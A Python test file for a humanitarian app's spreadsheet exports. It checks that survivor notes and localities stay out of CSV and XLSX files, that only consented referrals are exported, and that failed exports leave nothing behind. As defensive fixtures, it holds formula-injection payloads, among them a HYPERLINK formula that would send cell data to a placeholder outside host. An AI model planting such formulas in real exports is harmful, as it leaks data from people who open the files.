"""Spreadsheet exports: what a partner opening the file sees, what never leaves the vault, and
that a failed export leaves nothing behind."""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
import zipfile
from dataclasses import replace
from datetime import date, datetime, timedelta, timezone
from xml.etree import ElementTree

import pytest

from tests.documents_support import open_filled_vault, provider
from fieldapp.documents.common import DocumentError
from fieldapp.documents.exports import KINDS, NEUTRALISER, export
from fieldapp.domain.records import Referral
from fieldapp.core.changes import ListQuery

SECRET_NOTE = "Elle craint son oncle Kambale qui vit au quartier Mabakanga"
SECRET_LOCALITY = "Village-secret-Kyavinyonge"
NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


@pytest.fixture(scope="module")
def session(template_vault, tmp_path_factory):
    opened = open_filled_vault(template_vault, tmp_path_factory.mktemp("exports"), records=150)
    reported = datetime.now(timezone.utc) - timedelta(days=2)
    for consent, code in ((True, "BNI-2026-9001"), (False, "BNI-2026-9002")):
        opened.referrals.create(Referral(
            survivor_code=code, reported_at=reported, incident_date=reported.date() - timedelta(days=1),
            incident_type="rape", sex="female", age_group="18-59", entry_point="self", consent_referral=True,
            consent_reporting=consent, location_pcode="CD6109", locality=SECRET_LOCALITY, notes=SECRET_NOTE))
    opened.providers.create(provider("=HYPERLINK(\"http://x\")", "CD6109", ["health"]))
    yield opened
    opened.close()


def read_csv(path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    return list(csv.reader(io.StringIO(raw[3:].decode("utf-8"))))


def read_xlsx(path) -> list[list[str]]:
    """Cell texts of the first sheet (inline or shared strings, numbers as text)."""
    with zipfile.ZipFile(path) as book:
        shared = []
        if "xl/sharedStrings.xml" in book.namelist():
            shared = ["".join(t.text or "" for t in item.iter(f"{NS}t"))
                      for item in ElementTree.fromstring(book.read("xl/sharedStrings.xml"))]
        sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
    rows = []
    for row in sheet.iter(f"{NS}row"):
        cells = {}
        for cell in row.iter(f"{NS}c"):
            column = re.match(r"[A-Z]+", cell.get("r")).group()
            index = sum((ord(ch) - 64) * 26 ** power for power, ch in enumerate(reversed(column))) - 1
            if cell.get("t") == "inlineStr":
                cells[index] = "".join(t.text or "" for t in cell.iter(f"{NS}t"))
            elif cell.get("t") == "s":
                cells[index] = shared[int(cell.find(f"{NS}v").text)]
            else:
                cells[index] = cell.find(f"{NS}v").text
        rows.append([cells.get(i, "") for i in range(max(cells) + 1)] if cells else [])
    return rows


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_referral_export_holds_no_notes_no_locality_and_only_consented_referrals(session, tmp_path, fmt):
    target = tmp_path / f"referrals.{fmt}"
    result = export(session, "referrals", target, fmt, "en+fr", hxl=True)
    raw = target.read_bytes()
    if fmt == "xlsx":
        with zipfile.ZipFile(target) as book:
            raw = b"".join(book.read(name) for name in book.namelist())
    for secret in (SECRET_NOTE, "Kambale", "Mabakanga", SECRET_LOCALITY):
        assert secret.encode() not in raw
    rows = read_csv(target) if fmt == "csv" else read_xlsx(target)
    codes = {row[rows[0].index("Survivor code / Code de la survivante")] for row in rows[2:]}
    assert "BNI-2026-9001" in codes and "BNI-2026-9002" not in codes
    consented = session.referrals.count(ListQuery(filters={"consent_reporting": True}))
    assert len(rows) - 2 == result.rows == consented
    assert result.left_out == session.referrals.count() - consented


def test_csv_headers_labels_hxl_and_iso_dates(session, tmp_path):
    target = tmp_path / "referrals.csv"
    export(session, "referrals", target, "csv", "en+fr", hxl=True)
    header, tags, *rows = read_csv(target)
    assert "Date of report / Date du signalement" in header
    assert tags[header.index("Date of report / Date du signalement")] == "#date+reported"
    assert "#adm1+code" in tags and "#event+type+code" in tags and "#event+type+name+i_fr" in tags
    row = next(r for r in rows if r[header.index("Survivor code / Code de la survivante")] == "BNI-2026-9001")
    type_column = header.index("Incident type / Type d'incident")
    assert row[type_column:type_column + 3] == ["rape", "Rape", "Viol"]  # code, English label, French label
    assert datetime.fromisoformat(row[header.index("Date of report / Date du signalement")]).tzinfo is not None
    assert row[tags.index("#adm1+code")] == "CD61" and row[tags.index("#adm2+code")] == "CD6109"


def test_french_export_without_hxl_has_one_header_row_in_french(session, tmp_path):
    target = tmp_path / "services.csv"
    export(session, "services", target, "csv", "fr")
    header, first, *_rest = read_csv(target)
    assert "Secteur" in header and not any(cell.startswith("#") for cell in first)
    sector = header.index("Secteur")
    assert first[sector] in ("health", "psychosocial", "safety", "legal", "shelter", "livelihoods",
                             "child_protection", "other")
    assert "outcome" not in " ".join(header).lower() and "Raison" not in header


def test_every_kind_exports_in_both_formats(session, tmp_path):
    for kind in KINDS:
        for fmt in ("csv", "xlsx"):
            target = tmp_path / f"{kind}.{fmt}"
            result = export(session, kind, target, fmt, "fr", hxl=True)
            rows = read_csv(target) if fmt == "csv" else read_xlsx(target)
            assert len(rows) == result.rows + 2 and result.rows > 0, (kind, fmt)


TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = '=HYPERLINK("http://x.example/?"&A1,"Beni")'


def _every_cell_is_inert(rows) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(TRIGGERS) and not cell.lstrip().startswith(TRIGGERS), cell


@pytest.fixture
def hostile_place(session):
    """CD6109 (Beni) renamed to a formula, as an OCHA file or a headquarters bundle could."""
    original = session.places.get("CD6109")
    session.places.import_places([replace(original, name_en=HOSTILE, name_fr=HOSTILE)])
    yield HOSTILE
    session.places.import_places([original])


def test_a_formula_in_a_place_name_or_a_typed_field_is_never_a_formula_in_a_csv(session, tmp_path, hostile_place):
    for kind in KINDS:
        target = tmp_path / f"{kind}.csv"
        export(session, kind, target, "csv", "en+fr", hxl=True)
        _every_cell_is_inert(read_csv(target))
    referrals = read_csv(tmp_path / "referrals.csv")
    column = referrals[1].index("#adm2+name")
    beni = [row[column] for row in referrals[2:] if row[column].endswith(HOSTILE)]
    assert beni and set(beni) == {NEUTRALISER + HOSTILE}  # the name itself, readable after one invisible mark
    names = [row[1] for row in read_csv(tmp_path / "directory.csv")[2:]]
    assert NEUTRALISER + '=HYPERLINK("http://x")' in names


def test_a_phone_number_stays_readable_as_typed_with_no_apostrophe(session, tmp_path):
    target = tmp_path / "directory.csv"
    export(session, "directory", target, "csv", "en")
    rows = read_csv(target)
    phones = [row[rows[0].index("Phones")] for row in rows[1:] if row[rows[0].index("Phones")]]
    assert phones and not any("'" in phone for phone in phones)
    assert all(phone.startswith(NEUTRALISER + "+243 ") for phone in phones)
    # What a person sees (the word joiner has no width) and what a reader gets once it drops it.
    assert phones[0].lstrip(NEUTRALISER).startswith("+243 ") and len(phones[0].strip(NEUTRALISER)) == len(phones[0]) - 1


def test_an_xlsx_export_holds_no_formula(session, tmp_path, hostile_place):
    target = tmp_path / "referrals.xlsx"
    export(session, "referrals", target, "xlsx", "en")
    with zipfile.ZipFile(target) as book:
        sheet = book.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet and b"<f " not in sheet
    assert any(HOSTILE in cell for row in read_xlsx(target) for cell in row)  # kept as text, as it is


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_reads_the_formula_and_the_phone_number_as_text(session, tmp_path, hostile_place):
    target = tmp_path / "directory.csv"
    export(session, "directory", target, "csv", "en")
    places = tmp_path / "places.csv"
    export(session, "places", places, "csv", "en")
    for path in (target, places):
        # Formulas evaluated, as LibreOffice's import dialog offers by default.
        subprocess.run(["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/lo",
                        "--infilter=CSV:44,34,76,1,,1033,false,false,false,false,false,-1,true",
                        "--convert-to", "fods", "--outdir", str(tmp_path / "lo-out"), str(path)],
                       check=True, capture_output=True, timeout=120)
    office = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
    table = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
    cells = [cell for name in ("directory", "places")
             for cell in ElementTree.parse(tmp_path / "lo-out" / f"{name}.fods").iter(f"{{{table}}}table-cell")]
    assert not [cell for cell in cells if cell.get(f"{{{table}}}formula")]
    texts = ["".join(cell.itertext()).strip() for cell in cells]
    assert any(text == NEUTRALISER + "+243 990 000 001" for text in texts)
    assert any(text == NEUTRALISER + HOSTILE for text in texts)
    phone = next(c for c, t in zip(cells, texts) if t.endswith("+243 990 000 001"))
    assert phone.get(f"{{{office}}}value-type") == "string"


def test_export_is_audited(session, tmp_path):
    target = tmp_path / "alerts.xlsx"
    recent = ListQuery(date_from=date.today() - timedelta(days=90))
    result = export(session, "alerts", target, "xlsx", "en", query=recent)
    entry = session.audit.entries(limit=1)[0]
    assert (entry.action, entry.record_type) == ("export", "alerts")
    assert entry.detail["rows"] == result.rows and entry.detail["format"] == "xlsx"
    assert entry.detail["file"] == str(target.resolve())


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_export_failing_midway_leaves_no_file_at_all(session, tmp_path, fmt):
    target = tmp_path / f"alerts.{fmt}"
    target_before = session.audit.count()

    def fail_after_first_batch(done, total):
        if done > 0:
            raise RuntimeError("disk full")

    with pytest.raises(RuntimeError):
        export(session, "alerts", target, fmt, "en", progress=fail_after_first_batch)
    assert list(tmp_path.iterdir()) == []  # no file, no temp file, no scratch folder
    assert session.audit.count() == target_before


def test_an_unwritable_destination_is_a_clear_error_and_changes_nothing(session, tmp_path):
    blocker = tmp_path / "report.csv"
    blocker.write_text("a file where a folder should be")
    with pytest.raises(DocumentError, match="Cannot write"):
        export(session, "referrals", blocker / "referrals.csv", "csv", "en")
    assert [p.name for p in tmp_path.iterdir()] == ["report.csv"]
    with pytest.raises(DocumentError, match="csv or xlsx"):
        export(session, "referrals", tmp_path / "r.ods", "ods", "en")
    with pytest.raises(DocumentError, match="directory"):
        export(session, "survivors", tmp_path / "r.csv", "csv", "en")


def _reference_csv(session, kind: str, languages_spec: str) -> bytes:
    """The export as its rules say, column by column with no shortcut: each getter, csv_cell on
    every cell, a code followed by its label in each language (several codes joined)."""
    from fieldapp.documents.common import Languages
    from fieldapp.documents.export_columns import COLUMNS
    from fieldapp.documents.exports import Lookups, _batches, csv_cell, header_rows

    languages = Languages(languages_spec)
    lookups = Lookups(session, languages.codes[0])
    columns = COLUMNS[kind]
    out = io.StringIO(newline="")
    writer = csv.writer(out)
    writer.writerows([[csv_cell(value) for value in row] for row in header_rows(columns, languages, True)])
    for batch in _batches(session, kind, ListQuery()):
        if kind == "services":
            lookups.load_referrals(batch)
        for record in batch:
            row = []
            for column in columns:
                value = column.get(record, lookups)
                if column.vocabulary is None:
                    row.append(csv_cell(value))
                elif isinstance(value, list):
                    row.append(csv_cell(";".join(value)))
                    row += [csv_cell("; ".join(column.vocabulary.label_in(code_language, code) for code in value))
                            for code_language in languages.codes]
                elif value in ("", None):
                    row += [""] * (1 + len(languages.codes))
                else:
                    row += [csv_cell(value)] + [csv_cell(column.vocabulary.label_in(code_language, value))
                                                for code_language in languages.codes]
            writer.writerow(row)
    return b"\xef\xbb\xbf" + out.getvalue().encode("utf-8")


@pytest.mark.parametrize("kind", KINDS)
def test_the_fast_csv_writer_gives_the_same_bytes_as_the_rules(session, tmp_path, kind):
    from fieldapp.domain.records import Alert

    if kind == "alerts":  # texts that must be neutralised or cleaned, beside ordinary ones
        for text in ("=2+3", "  @SUM(A1)", "-danger", "\tcmd", "+243 970 000 000", ""):
            session.alerts.create(Alert(received_at=datetime(2025, 10, 1, 6, 0, tzinfo=timezone.utc),
                                        channel="radio", location_pcode="CD6109", threat_types=["abduction", "attack"],
                                        description=text, response=text))
    target = tmp_path / f"{kind}.csv"
    export(session, kind, target, "csv", "en+fr", hxl=True)
    assert target.read_bytes() == _reference_csv(session, kind, "en+fr")


def test_the_progress_total_is_the_rows_written_and_both_ways_count_the_same_left_out(session, tmp_path):
    seen = []
    shown = export(session, "referrals", tmp_path / "a.csv", "csv", "en", progress=lambda done, total: seen.append(
        (done, total)))
    quiet = export(session, "referrals", tmp_path / "b.csv", "csv", "en")
    assert seen[0] == (0, shown.rows) and seen[-1] == (shown.rows, shown.rows)  # the bar ends full, not short
    assert (quiet.rows, quiet.left_out) == (shown.rows, shown.left_out) and shown.left_out > 0
    assert (tmp_path / "a.csv").read_bytes() == (tmp_path / "b.csv").read_bytes()
